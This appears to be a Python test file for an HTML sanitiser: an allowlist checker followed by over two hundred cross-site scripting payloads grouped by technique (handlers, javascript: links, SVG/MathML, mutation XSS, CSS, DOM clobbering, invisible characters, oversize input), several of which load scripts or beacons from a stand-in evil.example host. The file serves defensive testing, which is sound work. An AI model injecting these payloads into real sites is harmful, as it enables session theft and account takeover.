"""Attacks on rich text, for every place that takes it in or shows it; each sets `window.hit` where it runs.

The payloads are of the kinds collected in the public cheat sheets on cross-site scripting: handlers, addresses that run,
drawings and formulas, parser differentials (mutation XSS), style, broken nesting, oversize.
"""

import re
from xml.etree import ElementTree

from tinyhtml5 import parse

ELEMENTS = {
    *["p", "h3", "h4", "ul", "ol", "li", "blockquote", "br", "table", "caption", "thead", "tbody", "tr", "th", "td"],
    *["strong", "em", "sub", "sup", "a", "span"],
}
ATTRIBUTES = {
    "a": {"href", "rel"},
    "span": {"lang", "data-fn"},
    "ol": {"start", "type"},
    "td": {"colspan", "rowspan"},
    "th": {"scope", "colspan", "rowspan"},
}
ON_SCREEN = {"a": {"id", "role"}, "sup": {"class"}}
ADDRESS = re.compile(r"(?:https?://[^\s@]+|mailto:[^\s]+@[^\s]*)", re.IGNORECASE)
NAMESPACE = "{http://www.w3.org/1999/xhtml}"


def assert_harmless(html: str, *, on_screen: bool = False) -> None:
    """Parse like a browser and refuse everything that is not on the list."""
    body = parse(f"<!doctype html><body>{html}").find(f"{NAMESPACE}body")
    for element in body.iter():
        if element is body:
            continue
        assert isinstance(element.tag, str), "a comment or an instruction"
        name = element.tag.removeprefix(NAMESPACE)
        assert name in ELEMENTS, name
        allowed = ATTRIBUTES.get(name, set()) | (ON_SCREEN.get(name, set()) if on_screen else set())
        assert set(element.attrib) <= allowed, ElementTree.tostring(element)
        href = element.attrib.get("href")
        assert href is None or ADDRESS.fullmatch(href) or (on_screen and re.fullmatch(r"#[a-z0-9-]+", href)), href
        assert len(href or "") <= 2000


SCRIPTS = [
    "<script>window.hit=1</script>",
    "<SCRIPT SRC=//evil.example/x.js></SCRIPT>",
    "<script\n>window.hit=1</script\n>",
    "<script/x>window.hit=1</script>",
    "<scr<script>ipt>window.hit=1</scr</script>ipt>",
    "<<script>window.hit=1//<</script>",
    "<script>window.hit=1",
    "<script type=module>window.hit=1</script>",
    "<script type=text/vbscript>x</script>",
    "<style><script>window.hit=1</script></style>",
    "<!--><script>window.hit=1</script>-->",
    "<!-- --!><script>window.hit=1</script>",
    "<![CDATA[<script>window.hit=1</script>]]>",
    "<?xml version='1.0'?><script>window.hit=1</script>",
    "<noscript><p title='</noscript><script>window.hit=1</script>'>",
    "\ufeff<script>window.hit=1</script>",
    "<s\x00cript>window.hit=1</s\x00cript>",
]
HANDLERS = [
    "<img src=x onerror=window.hit=1>",
    "<img src=x oNeRrOr=window.hit=1>",
    "<img/src=x/onerror=window.hit=1>",
    "<img src='x'onerror='window.hit=1'>",
    "<img src=x onerror\x0b=window.hit=1>",
    "<p onclick=window.hit=1>clic</p>",
    "<p onmouseover='window.hit=1'>souris</p>",
    "<body onload=window.hit=1>",
    "<svg onload=window.hit=1>",
    "<details open ontoggle=window.hit=1>x</details>",
    "<video src=x onerror=window.hit=1></video>",
    "<audio src=x onerror=window.hit=1>",
    "<input autofocus onfocus=window.hit=1>",
    "<select autofocus onfocus=window.hit=1>",
    "<textarea autofocus onfocus=window.hit=1>x",
    "<marquee onstart=window.hit=1>x</marquee>",
    "<a href='https://x.be' onclick='window.hit=1'>x</a>",
    "<span data-fn onmouseover=window.hit=1>note</span>",
    "<th scope=col onclick=window.hit=1>x</th>",
    "<p onanimationstart=window.hit=1 style='animation:x 1s'>x</p>",
    "<object data=x onerror=window.hit=1></object>",
    "<p tabindex=1 onfocus=window.hit=1 autofocus id=x>x</p>",
]
ADDRESSES = [
    "<a href='javascript:window.hit=1'>x</a>",
    "<a href='JaVaScRiPt:window.hit=1'>x</a>",
    "<a href=' javascript:window.hit=1'>x</a>",
    "<a href='java\nscript:window.hit=1'>x</a>",
    "<a href='java\tscript:window.hit=1'>x</a>",
    "<a href='\x01javascript:window.hit=1'>x</a>",
    "<a href='&#106;avascript:window.hit=1'>x</a>",
    "<a href='&#x6A;avascript&colon;window.hit=1'>x</a>",
    "<a href='&Tab;javascript&NewLine;:window.hit=1'>x</a>",
    "<a href='data:text/html,<script>window.hit=1</script>'>x</a>",
    "<a href='data:text/html;base64,PHNjcmlwdD53aW5kb3cuaGl0PTE8L3NjcmlwdD4='>x</a>",
    "<a href='vbscript:msgbox(1)'>x</a>",
    "<a href='file:///etc/passwd'>x</a>",
    "<a href='blob:https://x.be/1'>x</a>",
    "<a href='//evil.example'>x</a>",
    "<a href='/admin/logout'>x</a>",
    "<a href='\\\\evil.example'>x</a>",
    "<a href='http:evil.example'>x</a>",
    "<a href='https:///evil.example'>x</a>",
    "<a href='https://portal.example@evil.example'>x</a>",
    "<a href='mailto:javascript:window.hit=1'>x</a>",
    "<a href='https://x.be/\"onmouseover=\"window.hit=1'>x</a>",
    "<a href='https://x.be/><script>window.hit=1</script>'>x</a>",
    "<a href='https://[::1'>x</a>",
    "<a xlink:href='javascript:window.hit=1'>x</a>",
    "<form action='javascript:window.hit=1'><button>x</button></form>",
    "<button formaction='javascript:window.hit=1'>x</button>",
    "<iframe src='javascript:window.hit=1'></iframe>",
    "<iframe srcdoc='<script>window.hit=1</script>'></iframe>",
    "<embed src='javascript:window.hit=1'>",
    "<base href='javascript:window.hit=1//'>",
    "<meta http-equiv=refresh content='0;url=javascript:window.hit=1'>",
    "<link rel=stylesheet href='javascript:window.hit=1'>",
    "<blockquote cite='javascript:window.hit=1'>x</blockquote>",
    "<table background='javascript:window.hit=1'><tr><td>x</table>",
]
FOREIGN = [
    "<svg><script>window.hit=1</script></svg>",
    "<svg><a xlink:href='javascript:window.hit=1'><text y=9>x</text></a></svg>",
    "<svg><animate onbegin=window.hit=1 attributeName=x dur=1s>",
    "<svg><set attributeName=onmouseover to=window.hit=1></svg>",
    "<svg><foreignObject><img src=x onerror=window.hit=1></foreignObject></svg>",
    "<svg><use href='data:image/svg+xml,<svg id=x onload=window.hit=1/>#x'/></svg>",
    "<math><a xlink:href='javascript:window.hit=1'>x</a></math>",
    "<math href='javascript:window.hit=1'>x</math>",
    "<math><mtext><img src=x onerror=window.hit=1></mtext></math>",
    "<math><annotation-xml encoding='text/html'><img src=x onerror=window.hit=1></annotation-xml></math>",
]
MUTATIONS = [
    "<svg></p><style><a id='</style><img src=1 onerror=window.hit=1>'>",
    "<math><mtext><table><mglyph><style><!--</style><img title='--&gt;&lt;img src=1 onerror=window.hit=1&gt;'>",
    "<form><math><mtext></form><form><mglyph><style></math><img src onerror=window.hit=1>",
    "<noembed><img title='</noembed><img src onerror=window.hit=1>'></noembed>",
    "<xmp><p title='</xmp><img src onerror=window.hit=1>'>",
    "<textarea><p title='</textarea><img src onerror=window.hit=1>'>",
    "<title><p title='</title><img src onerror=window.hit=1>'>",
    "<plaintext><img src=x onerror=window.hit=1>",
    "<listing>&lt;img src=x onerror=window.hit=1&gt;</listing>",
    "<p>&lt;img src=x onerror=window.hit=1&gt;</p>",
    "<p>&amp;lt;img src=x onerror=window.hit=1&amp;gt;</p>",
    "<template><script>window.hit=1</script></template>",
    "<template shadowrootmode=open><img src=x onerror=window.hit=1></template>",
    "<select><template><style><img title='</style><img src onerror=window.hit=1>'></template></select>",
    "<p title=`<img src=x onerror=window.hit=1>`>x</p>",
    "<span data-fn='\"><img src=x onerror=window.hit=1>'>note</span>",
    "<span lang='\"><img src=x onerror=window.hit=1>'>x</span>",
    "<table><tr><td><caption><svg><style><img src=x onerror=window.hit=1>",
    "<a><table><a href='javascript:window.hit=1'>x</a></table></a>",
    "<img alt='<x' title='/><img src=x onerror=window.hit=1>'>",
]
STYLES = [
    "<p style='background:url(javascript:window.hit=1)'>x</p>",
    "<p style='position:fixed;inset:0;z-index:9'>x</p>",
    "<style>@import 'https://evil.example/x.css';</style>",
    "<style>body{display:none}</style>",
    "<p class='banner' id='main'>x</p>",
    "<font color=red size=7>x</font>",
    "<p hidden>x</p>",
    "<div style='width:expression(window.hit=1)'>x</div>",
]
NESTINGS = [
    "<p><p><p>x",
    "<b><i></b>x</i>",
    "<table><td><table><td>x",
    "<ul>" * 60 + "<li>x",
    "<div>" * 3000 + "x",
    "<b>" * 3000 + "x" + "<p>" * 300,
    "<table><tr><td>" * 300 + "x",
    "<span data-fn>" * 50 + "x",
    "</p></ul></table></body></html>x<p>y",
    "<li><td><caption>x",
    "<a href='https://x.be'>" * 500 + "x",
    "<blockquote>" * 120 + "x",
]
OVERSIZE = [
    f"<a href='https://x.be/{'a' * 100_000}'>x</a>",
    f"<p {'x' * 100_000}=1>x</p>",
    f"<p title='{'x' * 500_000}'>x</p>",
    "<td colspan=99999999 rowspan=99999999>x",
    "<table><tr><td colspan=99999999 rowspan=99999999>x</table>",
    "<ol start=99999999999999999999><li>x</ol>",
    f"<span lang='{'x' * 10_000}'>x</span>",
    f"<{'x' * 100_000}>x",
    "&" * 50_000 + "x",
    "&#x110000;&#xD800;&#0;x",
    "e" + "\u0301" * 10_000,
]
# What only breaks in company: names that hide parts of the page, signs nobody sees, comments of other times.
CLOBBERING = [
    "<a id=body name=body href='https://x.be'>x</a>",
    "<form id=document><input name=cookie><input name=attributes></form>",
    "<img name=getElementById><img name=querySelector>",
    "<a id=config><a id=config name=url href='https://evil.example'>x</a></a>",
    "<p id=__proto__ name=constructor>x</p>",
    "<span data-fn id=n-note-1 name=n-ref-1>note</span>",
    "<p data-amif-confirm='x' hx-get='/logout' hx-trigger=load>x</p>",
    "<p is=x-element slot=x part=x contenteditable>x</p>",
    "<a href='https://x.be' target=_top rel=opener ping='https://evil.example' download>x</a>",
    "<object name=forms data='https://evil.example'></object>",
    "<output form=f name=body>x</output><label for=password>x</label>",
]
INVISIBLE = [
    "<a href='https://x.be/\u202ecod.exe'>x\u202ecod.exe</a>",
    "<p>\u2066\u2067x\u2069 admin\u200b\u2060</p>",
    "<scr\u200bipt>window.hit=1</scr\u200bipt>",
    "<a href='java\u200bscript:window.hit=1'>x</a>",
    "<a href='\u2028javascript:window.hit=1'>x</a>",
    "<img src=x \u00a0onerror=window.hit=1>",
    "<p\u00adonclick=window.hit=1>x</p>",
    "\uff1cscript\uff1ewindow.hit=1\uff1c/script\uff1e",
    "<a href='https://x.be\u2024evil.example'>x</a>",
    "<a href='https://x.be\uff0fevil.example'>x</a>",
    "<p>\ud83d\ude00\udfff x</p>",
]
COMMENTS = [
    "<!--[if gte IE 4]><script>window.hit=1</script><![endif]-->",
    "<!--[if !mso]><!--><img src=x onerror=window.hit=1><!--<![endif]-->",
    "<!--><img src=x onerror=window.hit=1>-->",
    "<!---><img src=x onerror=window.hit=1>-->",
    '<! foo="[<img src=x onerror=window.hit=1>">',
    "</ foo='><img src=x onerror=window.hit=1>'>",
    "<% <img src=x onerror=window.hit=1> %>",
    "<? <img src=x onerror=window.hit=1> ?>",
    "<svg><![CDATA[</svg><img src=x onerror=window.hit=1>]]></svg>",
    "<p>{% debug %}{{ settings.SECRET_KEY }}{{ x|safe }}</p>",
    "<xml id=x><a><b>&lt;script&gt;window.hit=1&lt;/script&gt;</b></a></xml>",
]
PARSERS = [
    "<math><mtext><table><mglyph><style><math><table id='</table>'><img src onerror=window.hit=1>'>",
    "<svg><title><a id='</title><img src=x onerror=window.hit=1>'></svg>",
    "<svg><desc><table><svg><style><a title='</style><img src onerror=window.hit=1>'>",
    "<math><mi><table><mi><style></mi></table><img src=x onerror=window.hit=1></style>",
    "<table><thead><script>window.hit=1</script><tr><th>x</table>",
    "<table><a href='javascript:window.hit=1'><tr><td>x</td></tr></a></table>",
    "<select><option><img src=x onerror=window.hit=1></option></select>",
    "<frameset onload=window.hit=1><frame src='javascript:window.hit=1'></frameset>",
    "<noframes><style></noframes><img src=x onerror=window.hit=1></style></noframes>",
    "<iframe><p title='</iframe><img src=x onerror=window.hit=1>'></iframe>",
    "<isindex type=image src=x onerror=window.hit=1>",
    "<image src=x onerror=window.hit=1>",
    "<keygen autofocus onfocus=window.hit=1>",
    "<dialog open onclose=window.hit=1><form method=dialog><button>x</button></form></dialog>",
    "<p popover id=x onbeforetoggle=window.hit=1>x</p><button popovertarget=x>x</button>",
    "<ins onclick=window.hit=1 cite='javascript:window.hit=1'>x</ins><del class=visually-hidden>y</del>",
    "<link rel=preload as=script href='https://evil.example/x.js'><meta charset=utf-7>+ADw-script+AD4-",
    "<style>@charset 'utf-7';@import'data:text/css,*{background:url(https://evil.example)}'</style>",
    "<svg><style>{font-family:'<iframe/onload=window.hit=1>'}</style></svg>",
    "<p style='list-style:url(https://evil.example)' background=https://evil.example>x</p>",
    "<img srcset='https://evil.example 1x' src=https://evil.example/pixel.gif width=1>",
    "<video><source onerror=window.hit=1 src=x></video><picture><source srcset=x></picture>",
    "<a href='jav&#x09;ascript:window.hit=1'>x</a>",
    "<a href='&#0000106&#0000097&#0000118&#0000097script:window.hit=1'>x</a>",
    "<a href='javascript&#58;//%0awindow.hit=1'>x</a>",
    "<a href='data:image/svg+xml;utf8,<svg onload=window.hit=1>'>x</a>",
    "<a href='feed:javascript:window.hit=1'>x</a>",
    "<a href='view-source:https://x.be'>x</a>",
]
ATTACKS = [
    *(SCRIPTS + HANDLERS + ADDRESSES + FOREIGN + MUTATIONS + STYLES + NESTINGS + OVERSIZE),
    *(CLOBBERING + INVISIBLE + COMMENTS + PARSERS),
]
